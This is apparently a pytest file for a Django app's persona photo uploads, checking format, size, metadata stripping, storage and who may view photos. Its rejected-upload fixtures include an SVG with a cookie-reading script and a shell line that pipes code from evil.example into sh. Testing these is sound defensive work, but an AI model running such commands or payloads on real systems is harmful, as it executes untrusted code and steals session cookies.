"""Persona photos: what is accepted, what is refused (and then nothing is stored), how they are
stored and who may see them."""

import base64
import io
import json
import time

import pytest
from django.urls import reverse
from PIL import Image

from maps.interchange.exporting import dump_journey
from personas.models import Persona
from tests.factories import JourneyPersonaFactory, PersonaFactory
from tests.htmx import assert_fragment, hx_target
from tests.personas.helpers import stored_files
from tests.personas.images import ARTIST_TAG, image_bytes, jpeg_with_metadata, upload

pytestmark = pytest.mark.usefixtures("storage")

SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>alert(document.cookie)</script></svg>"""
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def upload_url(persona) -> str:
    return reverse("personas:photo_upload", args=[persona.workspace.slug, persona.pk])


def post_photo(client, persona, file, **headers):
    return client.post(upload_url(persona), {"photo": file}, **headers)


def stored_image(storage, persona) -> Image.Image:
    persona.refresh_from_db()
    with storage.open(persona.photo.name) as stored:
        image = Image.open(io.BytesIO(stored.read()))
        image.load()
    return image


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")],
)
def test_editor_uploads_a_jpeg_png_or_webp_photo(
    client, editor, persona, storage, fmt, content_type
):
    client.force_login(editor)
    photo = upload(f"me.{fmt.lower()}", image_bytes(fmt), content_type)

    response = post_photo(client, persona, photo)

    assert response.status_code == 302
    persona.refresh_from_db()
    assert persona.photo.name.startswith("personas/")
    assert stored_files(storage) == [persona.photo.name]
    assert stored_image(storage, persona).format == "JPEG"


def test_stored_copy_is_a_square_of_at_most_512_pixels(client, editor, persona, storage):
    client.force_login(editor)

    post_photo(client, persona, upload("big.png", image_bytes("PNG", (1600, 900)), "image/png"))

    assert stored_image(storage, persona).size == (512, 512)


def test_small_photo_is_not_blown_up(client, editor, persona, storage):
    client.force_login(editor)

    post_photo(client, persona, upload("small.jpg", image_bytes("JPEG", (300, 200))))

    assert stored_image(storage, persona).size == (200, 200)


def test_metadata_is_stripped_and_the_photo_turned_upright(client, editor, persona, storage):
    client.force_login(editor)
    # Orientation 6: the camera was held sideways; the 600 × 300 pixels show a 300 × 600 photo.
    original = jpeg_with_metadata(size=(600, 300), orientation=6)
    assert b"Secret Photographer" in original

    post_photo(client, persona, upload("phone.jpg", original))

    stored = stored_image(storage, persona)
    assert ARTIST_TAG not in stored.getexif()
    assert len(stored.getexif()) == 0
    assert "icc_profile" not in stored.info
    with storage.open(persona.photo.name) as raw:
        assert b"Secret Photographer" not in raw.read()


def test_transparent_png_is_laid_on_white(client, editor, persona, storage):
    client.force_login(editor)
    transparent = Image.new("RGBA", (50, 50), (0, 0, 0, 0))
    output = io.BytesIO()
    transparent.save(output, format="PNG")

    post_photo(client, persona, upload("logo.png", output.getvalue(), "image/png"))

    assert stored_image(storage, persona).getpixel((25, 25)) == (255, 255, 255)


def test_a_real_image_with_a_misleading_name_and_type_is_judged_by_its_bytes(
    client, editor, persona, storage
):
    client.force_login(editor)

    response = post_photo(client, persona, upload("notes.txt", image_bytes("PNG"), "text/plain"))

    assert response.status_code == 302
    assert len(stored_files(storage)) == 1


def _truncated_jpeg() -> bytes:
    whole = image_bytes("JPEG", (400, 400))
    return whole[: len(whole) * 2 // 3]


def _forty_megabytes() -> bytes:
    return image_bytes("JPEG") + b"\0" * (40 * 1024 * 1024)


def _too_many_pixels() -> bytes:
    # 10 000 × 5 000 one-bit pixels: a tiny PNG that would unpack into 150 MB of RGB.
    output = io.BytesIO()
    Image.new("1", (10_000, 5_000)).save(output, format="PNG")
    return output.getvalue()


BAD_FILES = {
    "svg": ("drawing.svg", lambda: SVG, "image/svg+xml", "not a JPEG, PNG or WebP image"),
    "renamed script": ("photo.jpg", lambda: SCRIPT, "image/jpeg", "not a JPEG, PNG or WebP image"),
    "gif": ("anim.gif", lambda: image_bytes("GIF", mode="L"), "image/gif", "not a JPEG, PNG"),
    "40 MB file": ("huge.jpg", _forty_megabytes, "image/jpeg", "a photo may be at most 5.0"),
    "truncated jpeg": ("cut.jpg", _truncated_jpeg, "image/jpeg", "damaged or incomplete"),
    "decompression bomb": ("bomb.png", _too_many_pixels, "image/png", "too many pixels"),
    "empty file": ("empty.jpg", lambda: b"", "image/jpeg", "The submitted file is empty"),
}


@pytest.mark.parametrize("kind", BAD_FILES)
def test_bad_file_is_refused_with_a_message_and_nothing_is_stored(
    client, editor, persona, storage, kind
):
    name, content, content_type, message = BAD_FILES[kind]
    client.force_login(editor)

    response = post_photo(
        client,
        persona,
        upload(name, content(), content_type),
        **hx_target("persona_photo"),
    )

    assert response.status_code == 422
    html = response.content.decode()
    assert message in html
    assert 'id="persona_photo"' in html
    assert_fragment(html)
    assert stored_files(storage) == []
    persona.refresh_from_db()
    assert not persona.photo


def test_refused_file_keeps_the_previous_photo(client, editor, persona, storage):
    client.force_login(editor)
    post_photo(client, persona, upload("me.jpg", image_bytes()))
    persona.refresh_from_db()
    before = persona.photo.name

    response = post_photo(client, persona, upload("photo.jpg", SCRIPT))

    assert response.status_code == 422
    persona.refresh_from_db()
    assert persona.photo.name == before
    assert stored_files(storage) == [before]


def test_new_photo_replaces_the_old_file(
    client, editor, persona, storage, django_capture_on_commit_callbacks
):
    client.force_login(editor)
    post_photo(client, persona, upload("first.jpg", image_bytes()))
    persona.refresh_from_db()
    first = persona.photo.name

    with django_capture_on_commit_callbacks(execute=True):
        response = post_photo(
            client,
            persona,
            upload("second.png", image_bytes("PNG")),
            **hx_target("persona_photo"),
        )

    assert response.status_code == 200
    assert "Photo saved." in response.content.decode()
    persona.refresh_from_db()
    assert persona.photo.name != first
    assert stored_files(storage) == [persona.photo.name]


def test_removing_the_photo_brings_back_the_initials(
    client, editor, persona, storage, django_capture_on_commit_callbacks
):
    client.force_login(editor)
    post_photo(client, persona, upload("me.jpg", image_bytes()))

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("personas:photo_remove", args=[persona.workspace.slug, persona.pk]))

    persona.refresh_from_db()
    assert not persona.photo
    assert stored_files(storage) == []
    html = client.get(persona.get_absolute_url()).content.decode()
    assert ">LM</span>" in html


def test_deleting_a_persona_deletes_its_photo(
    client, editor, persona, storage, django_capture_on_commit_callbacks
):
    client.force_login(editor)
    post_photo(client, persona, upload("me.jpg", image_bytes()))

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("personas:delete", args=[persona.workspace.slug, persona.pk]))

    assert not Persona.objects.filter(pk=persona.pk).exists()
    assert stored_files(storage) == []


@pytest.fixture
def photographed(client, editor, persona, storage):
    client.force_login(editor)
    post_photo(client, persona, upload("me.jpg", image_bytes()))
    persona.refresh_from_db()
    client.logout()
    return persona


def photo_url(persona) -> str:
    return reverse(
        "personas:photo", args=[persona.workspace.slug, persona.pk, persona.photo_filename]
    )


@pytest.mark.parametrize("role", ["owner", "editor", "commenter", "viewer"])
def test_members_see_the_photo_with_its_type_and_a_private_cache_header(
    client, request, photographed, role
):
    client.force_login(request.getfixturevalue(role))

    response = client.get(photo_url(photographed))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["Cache-Control"] == "private, max-age=31536000, immutable"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content)[:2] == b"\xff\xd8"


def test_outsider_cannot_see_the_photo(client, outsider, photographed):
    client.force_login(outsider)

    assert client.get(photo_url(photographed)).status_code == 404


def test_anonymous_visitor_cannot_see_the_photo(client, photographed):
    assert client.get(photo_url(photographed)).status_code == 302


def test_an_old_photo_url_is_gone(client, viewer, photographed):
    client.force_login(viewer)
    url = reverse("personas:photo", args=[photographed.workspace.slug, photographed.pk, "old.jpg"])

    assert client.get(url).status_code == 404


def test_pages_show_the_photo_through_the_checked_url(client, viewer, photographed):
    client.force_login(viewer)

    html = client.get(reverse("personas:list", args=[photographed.workspace.slug])).content.decode()

    assert f'src="{photo_url(photographed)}"' in html
    assert "/media/" not in html


def test_duplicate_gets_its_own_copy_of_the_photo(client, editor, photographed, storage):
    client.force_login(editor)

    client.post(reverse("personas:duplicate", args=[photographed.workspace.slug, photographed.pk]))

    copy = Persona.objects.exclude(pk=photographed.pk).get()
    assert copy.photo.name != photographed.photo.name
    assert sorted(stored_files(storage)) == sorted([photographed.photo.name, copy.photo.name])
    with storage.open(copy.photo.name) as one, storage.open(photographed.photo.name) as other:
        assert one.read() == other.read()


def test_persona_of_another_workspace_gets_no_photo_through_mine(
    client, editor, workspace, storage
):
    elsewhere = PersonaFactory()
    client.force_login(editor)

    response = client.post(
        reverse("personas:photo_upload", args=[workspace.slug, elsewhere.pk]),
        {"photo": upload("me.jpg", image_bytes())},
    )

    assert response.status_code == 404
    assert stored_files(storage) == []


def test_journey_file_carries_the_persona_and_its_stored_photo(photographed):
    link = JourneyPersonaFactory(persona=photographed, journey__workspace=photographed.workspace)

    document = json.loads(dump_journey(link.journey))

    (entry,) = document["personas"]
    assert entry["name"] == "Léa Martin"
    assert entry["goals"] == photographed.goals
    with photographed.photo.open("rb") as stored:
        assert base64.b64decode(entry["photo"]) == stored.read()
    # The colour its name gives is left out: an import picks that one by itself.
    assert "colour" not in entry


def _png_of(width: int, height: int) -> bytes:
    output = io.BytesIO()
    Image.new("1", (width, height)).save(output, format="PNG")
    return output.getvalue()


def test_a_forty_megapixel_photo_is_refused_before_decoding_within_a_second(
    client, editor, persona, storage
):
    content = _png_of(8_000, 5_000)  # exactly 40 megapixels, a few kilobytes
    client.force_login(editor)

    started = time.perf_counter()
    response = post_photo(client, persona, upload("big.png", content, "image/png"))
    elapsed = time.perf_counter() - started

    assert response.status_code == 422
    assert "under 25 megapixels" in response.content.decode()
    assert elapsed < 1
    assert stored_files(storage) == []


def test_a_photo_just_under_the_pixel_limit_is_accepted(client, editor, persona, storage):
    client.force_login(editor)

    response = post_photo(client, persona, upload("ok.png", _png_of(5_000, 4_000), "image/png"))

    assert response.status_code in (200, 302)
    persona.refresh_from_db()
    assert persona.photo
